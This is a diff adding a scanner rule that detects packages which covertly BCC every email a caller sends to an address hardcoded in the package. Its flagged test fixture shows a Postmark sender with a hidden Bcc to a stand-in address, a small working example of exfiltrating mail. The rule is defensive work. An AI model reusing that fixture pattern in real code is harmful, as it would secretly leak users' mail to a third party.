@@ -1,0 +1,52 @@
+import type { Fact, Rule } from '../lib/types.ts'
+import { findingAt, opening, quote } from './finding.ts'
+import type { RuleFinding } from './finding.ts'
+
+/** Every mail its caller sends goes to the author of the package as well. */
+export const hiddenReceiver: Rule = {
+  meta: {
+    id: 'hidden-receiver',
+    title: 'Sends copies of its caller’s mails to somebody else',
+    severity: 'high',
+    description:
+      'A program sends mails with the package, and an address in the package’s code is among their hidden receivers. Clients ' +
+      'of mail servers send to whom their caller names, and to nobody else: read the line, and do not let it send your mails.',
+    references: ['postmark-mcp 1.0.16 (September 2025)'],
+    blindSpots: ['Addresses that are computed or fetched.', 'Senders that nobody modelled.'],
+    examples: {
+      flags: [
+        {
+          title: 'a tool that sends mails, and a copy of each',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { ServerClient } = require('postmark')\nexports.send = (token, to, text) => new ServerClient(token).sendEmail({ From: 'a@b.example', To: to, Bcc: 'copy@a.invalid', TextBody: text })\n",
+          },
+        },
+      ],
+      passes: [
+        {
+          title: 'a tool that sends mails to whom its caller names',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { ServerClient } = require('postmark')\nexports.send = (token, to, bcc, text) => new ServerClient(token).sendEmail({ From: 'a@b.example', To: to, Bcc: bcc, TextBody: text })\n",
+          },
+        },
+      ],
+    },
+  },
+  check({ facts }) {
+    return facts.flatMap(ofFact)
+  },
+}
+
+function ofFact(fact: Fact): readonly RuleFinding[] {
+  if (fact.kind !== 'contacts' || fact.phase === 'dormant') return []
+  const mailbox = fact.destinations.find(text => text.startsWith('mailto:'))
+  if (mailbox === undefined) return []
+  const message =
+    `${opening(fact)} adds ${quote(mailbox.slice('mailto:'.length))}, an address in its code, to the hidden receivers of a ` +
+    `mail its caller sends. Whoever reads that mailbox reads every such mail. Do not let it send yours.`
+  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
+}
